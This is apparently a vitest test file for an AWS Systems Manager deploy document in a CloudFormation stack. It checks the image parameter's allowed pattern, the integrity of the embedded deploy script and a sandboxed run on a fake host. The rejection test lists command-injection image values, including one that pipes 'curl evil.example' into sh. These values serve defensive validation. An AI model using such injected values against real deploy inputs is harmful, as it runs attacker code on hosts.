import { mkdtempSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parseEnv } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { deployScriptPath, deployTargetTagKey } from '../src/api-deploy-document.js';
import {
  DATABASE_SECRET_ARN,
  DB_SECRETS,
  INSTANCE_ID,
  instanceWorld,
  NEW_IMAGE,
  REPOSITORY,
} from '../../tests/pipeline/support/instance-world.js';
import { deployScripts, Sandbox } from '../../tests/pipeline/support/sandbox.js';
import { onlyResource, templateOf } from './support/templates.js';

interface DocumentContent {
  schemaVersion: string;
  parameters: Record<string, { type: string; allowedPattern: unknown }>;
  mainSteps: { action: string; inputs: { timeoutSeconds: string; runCommand: unknown[] } }[];
}

const documentOf = (configuration: 'defaults' | 'customized') => {
  const template = templateOf(configuration);
  const document = onlyResource(template, 'AWS::SSM::Document');
  return { template, document, content: document.properties.Content as DocumentContent };
};

/** A CloudFormation value with each Ref replaced as CloudFormation would, by the values given. */
function resolve(value: unknown, refs: Record<string, string>): string {
  if (typeof value === 'string') return value;
  const join = (value as { 'Fn::Join'?: [string, unknown[]] })['Fn::Join'];
  if (join !== undefined) return join[1].map((part) => resolve(part, refs)).join(join[0]);
  const ref = (value as { Ref?: string }).Ref;
  if (ref !== undefined && refs[ref] !== undefined) return refs[ref];
  throw new Error(`Cannot resolve ${JSON.stringify(value)}`);
}

const ACCOUNT = '123456789012';

describe('the deploy document, with the defaults', () => {
  const { template, document, content } = documentOf('defaults');
  const [step] = content.mainSteps;
  const pattern = new RegExp(resolve(content.parameters.image?.allowedPattern, { 'AWS::AccountId': ACCOUNT }));
  const commands = (step?.inputs.runCommand ?? []).map((command) =>
    resolve(command, {
      [document.id]: 'RockOfAges-ApiDeployDocument-Xy12',
      ...Object.fromEntries(Object.keys(template.findResources('AWS::SecretsManager::SecretTargetAttachment')).map((id) => [id, DATABASE_SECRET_ARN])),
      ...Object.fromEntries(Object.keys(template.findResources('AWS::Logs::LogGroup')).map((id) => [id, `${id}-log-group`])),
    }),
  );

  it('is a Command document, updated in place under the same name, with one step on the host', () => {
    expect(document.properties).toMatchObject({ DocumentType: 'Command', UpdateMethod: 'NewVersion' });
    expect(document.properties).not.toHaveProperty('Name');
    expect(content.schemaVersion).toBe('2.2');
    expect(content.mainSteps).toHaveLength(1);
    expect(step).toMatchObject({ action: 'aws:runShellScript', inputs: { timeoutSeconds: '900' } });
  });

  it('takes one parameter, the image, and nothing else', () => {
    expect(Object.keys(content.parameters)).toEqual(['image']);
    expect(content.parameters.image?.type).toBe('String');
  });

  it.each([
    `${REPOSITORY}:3f2a9c1d0b8e7f6a5d4c3b2a1908f7e6d5c4b3a2`,
    `${REPOSITORY}:latest`,
    `${ACCOUNT}.dkr.ecr.us-east-2.amazonaws.com.cn/rock-of-ages-api:v1.2_3`,
  ])('admits a tag of the stack\'s own repository: %s', (image) => {
    expect(image).toMatch(pattern);
  });

  it.each([
    `${REPOSITORY}:latest'; curl evil.example | sh; echo '`,
    `${REPOSITORY}:$(id)`,
    `${REPOSITORY}:\`id\``,
    `${REPOSITORY}:a b`,
    `${REPOSITORY}:tag\nid`,
    `${REPOSITORY}`,
    `${REPOSITORY}@sha256:${'a'.repeat(64)}`,
    `210987654321.dkr.ecr.us-east-2.amazonaws.com/rock-of-ages-api:latest`,
    `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/rock-of-ages-api:latest`,
    `${ACCOUNT}.dkr.ecr.us-east-2.amazonaws.com/other-api:latest`,
    `${ACCOUNT}Xdkr.ecr.us-east-2.amazonaws.com/rock-of-ages-api:latest`,
    'public.ecr.aws/docker/library/alpine:latest',
    'docker.io/attacker/api:latest',
  ])('refuses anything else, any shell character first: %s', (image) => {
    expect(image).not.toMatch(pattern);
  });

  it('carries the repository\'s deploy script byte for byte, checked against its SHA-256 before it runs', () => {
    const encoded = /^printf %s '([A-Za-z0-9+/=]+)' \| base64 --decode \| gunzip > "\$work\/deploy-api\.sh"$/.exec(commands[3] ?? '')?.[1];
    expect(gunzipSync(Buffer.from(encoded ?? '', 'base64')).equals(readFileSync(deployScriptPath))).toBe(true);
    expect(commands[4]).toMatch(/^echo "[0-9a-f]{64} {2}\$work\/deploy-api\.sh" \| sha256sum --check --quiet$/);
    expect(deployScriptPath).toBe(path.join(deployScripts, 'deploy-api.sh'));
  });

  it("fixes every other setting: the database's secret, its name, verify-full, the container log group, the VPC as the trusted proxy", () => {
    const logGroup = Object.keys(template.findResources('AWS::Logs::LogGroup')).find((id) => id.startsWith('ApiLogsContainer'));
    expect(commands.at(-1)).toBe(
      `bash "$work/deploy-api.sh" --image '{{ image }}' --region 'us-east-2' --instance-id "\${AWS_SSM_INSTANCE_ID:-}"` +
        ` --parameter-prefix '/rock-of-ages/api/' --database-secret '${DATABASE_SECRET_ARN}' --database-name 'rockofages'` +
        ` --ssl-mode 'verify-full' --log-group '${logGroup}-log-group' --trust-proxy '10.40.0.0/16'`,
    );
  });

  it('targets the API host by its tag, which names the document, as send-deploy-command.sh looks for it', () => {
    const tags = onlyResource(template, 'AWS::EC2::Instance').properties.Tags as { Key: string; Value: unknown }[];
    expect(tags).toContainEqual({ Key: deployTargetTagKey, Value: { Ref: document.id } });
    expect(readFileSync(path.join(deployScripts, 'send-deploy-command.sh'), 'utf8')).toContain(`readonly TARGET_TAG_KEY=${deployTargetTagKey}\n`);
  });

  describe('run on a host as Systems Manager runs it (fake docker, aws and curl)', () => {
    let sandbox: Sandbox;
    afterEach(() => sandbox.remove());

    it('deploys the image with the settings from the secret, SEED reference and TRUST_PROXY', () => {
      sandbox = Sandbox.create({ ...instanceWorld(), parameters: {} });
      // Systems Manager puts the parameter's value in place of {{ image }}, and names the instance.
      const script = commands.join('\n').replace('{{ image }}', NEW_IMAGE);

      const onHost = sandbox.run('sh', ['-c', script], { AWS_SSM_INSTANCE_ID: INSTANCE_ID }, mkdtempSync(path.join(sandbox.directory, 'ssm-')));

      expect(onHost.status, onHost.stderr).toBe(0);
      expect(onHost.stdout).toContain(`[deploy] deployed ${NEW_IMAGE}`);
      const container = sandbox.world().containers['rock-of-ages-api'];
      expect(container).toMatchObject({ image: NEW_IMAGE, status: 'running' });
      const envFile = container?.mounts.find((mount) => mount.target === '/app/api/.env')?.source ?? '';
      expect(parseEnv(readFileSync(envFile, 'utf8'))).toMatchObject({
        ...DB_SECRETS,
        SSLMODE: 'verify-full',
        SEED: 'reference',
        TRUST_PROXY: '10.40.0.0/16',
        INSTANCE_ID,
      });
      const run = sandbox.calls('docker').find((call) => call.args[0] === 'run')?.args ?? [];
      expect(run).toContain('awslogs');
    });
  });
});

describe('the deploy document, customized', () => {
  const { content } = documentOf('customized');
  const pattern = new RegExp(resolve(content.parameters.image?.allowedPattern, { 'AWS::AccountId': ACCOUNT }));

  it('admits the configured repository in the configured region only', () => {
    expect(`${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/rocks-api:abc`).toMatch(pattern);
    expect(`${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/rocksXapi:abc`).not.toMatch(pattern);
    expect(`${ACCOUNT}.dkr.ecr.us-east-2.amazonaws.com/team/rocks-api:abc`).not.toMatch(pattern);
    expect(`${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/rock-of-ages-api:abc`).not.toMatch(pattern);
  });
});
